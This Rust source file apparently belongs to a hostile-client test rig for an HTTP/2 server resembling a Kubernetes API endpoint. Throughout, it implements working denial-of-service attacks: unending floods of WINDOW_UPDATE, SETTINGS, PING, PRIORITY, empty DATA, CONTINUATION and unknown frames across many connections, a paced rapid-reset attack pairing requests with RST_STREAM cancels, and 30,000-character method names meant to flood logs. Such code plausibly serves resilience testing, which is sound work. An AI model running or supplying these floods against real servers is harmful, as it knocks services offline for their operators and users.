//! Cheap frames in large numbers.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncWriteExt, split};

use super::repeat;
use crate::hostile::raw::{connect_h2, drain, get, tls_config};
use crate::hostile::rig::Target;
use crate::support::http2::{
    CONTINUATION, DATA, HEADERS, PING, PRIORITY, RST_STREAM, WINDOW_UPDATE, frame, headers,
    settings,
};
use crate::support::pause;

/// Frames are written in blocks of about this many bytes.
const BLOCK: usize = 16 << 10;

/// What a connection sends once and then without end.
pub struct Flood {
    first: fn() -> Vec<u8>,
    repeated: fn() -> Vec<u8>,
}

pub const WINDOW_UPDATES: Flood =
    Flood { first: Vec::new, repeated: || frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()) };
pub const SETTINGS: Flood = Flood { first: Vec::new, repeated: || settings(&[]) };
pub const PINGS: Flood = Flood { first: Vec::new, repeated: || frame(PING, 0, 0, &[0; 8]) };
pub const PRIORITIES: Flood =
    Flood { first: Vec::new, repeated: || frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 1]) };
pub const EMPTY_DATA: Flood = Flood {
    first: || {
        headers(
            1,
            false,
            &[
                (":method", "POST"),
                (":scheme", "https"),
                (":authority", "api"),
                (":path", "/api/v1/namespaces/default/configmaps"),
            ],
        )
    },
    repeated: || frame(DATA, 0, 1, &[]),
};
pub const CONTINUATIONS: Flood =
    Flood { first: || frame(HEADERS, 0, 1, &[]), repeated: || frame(CONTINUATION, 0, 1, &[]) };
pub const UNKNOWN: Flood = Flood { first: Vec::new, repeated: || frame(0xbe, 0, 0, &[0; 8]) };

pub async fn frames(target: &Target, connections: usize, flood: &'static Flood) {
    let (server, config) = (target.server, tls_config("h2", None));
    repeat(connections, |_| {
        let config = Arc::clone(&config);
        async move {
            let tls = connect_h2(server, &config, &[]).await?;
            let (reader, mut writer) = split(tls);
            tokio::spawn(drain(reader));
            writer.write_all(&(flood.first)()).await?;
            let one = (flood.repeated)();
            let block = one.repeat(BLOCK / one.len());
            loop {
                writer.write_all(&block).await?;
            }
        }
    })
    .await;
}

/// Requests that are reset before their response, with a pause that keeps the stream open for a moment.
pub async fn paced_resets(target: &Target, streams: u32) {
    let (server, config) = (target.server, tls_config("h2", None));
    repeat(4, |_| {
        let config = Arc::clone(&config);
        async move {
            let tls = connect_h2(server, &config, &[]).await?;
            let (reader, mut writer) = split(tls);
            tokio::spawn(drain(reader));
            for round in 0.. {
                let ids = || (0..streams).map(|n| 2 * (round * streams + n) + 1);
                let requests: Vec<u8> = ids().flat_map(|id| get(id, "/version", &[])).collect();
                let cancel = 8_u32.to_be_bytes();
                let resets: Vec<u8> =
                    ids().flat_map(|id| frame(RST_STREAM, 0, id, &cancel)).collect();
                writer.write_all(&requests).await?;
                writer.flush().await?;
                pause(Duration::from_millis(1)).await;
                writer.write_all(&resets).await?;
                writer.flush().await?;
            }
            io::Result::Ok(())
        }
    })
    .await;
}

/// Requests with a method that would fill a log.
pub async fn long_methods(target: &Target, streams: u32) {
    let (server, config) = (target.server, tls_config("h2", None));
    let method = "M".repeat(30_000);
    repeat(4, |_| {
        let (config, method) = (Arc::clone(&config), method.clone());
        async move {
            let tls = connect_h2(server, &config, &[]).await?;
            let (reader, mut writer) = split(tls);
            let reading = tokio::spawn(drain(reader));
            for n in 0..streams {
                let fields = [
                    (":method", method.as_str()),
                    (":scheme", "https"),
                    (":authority", "api"),
                    (":path", "/"),
                ];
                writer.write_all(&headers(2 * n + 1, true, &fields)).await?;
            }
            writer.flush().await?;
            let _ = reading.await;
            Ok(())
        }
    })
    .await;
}
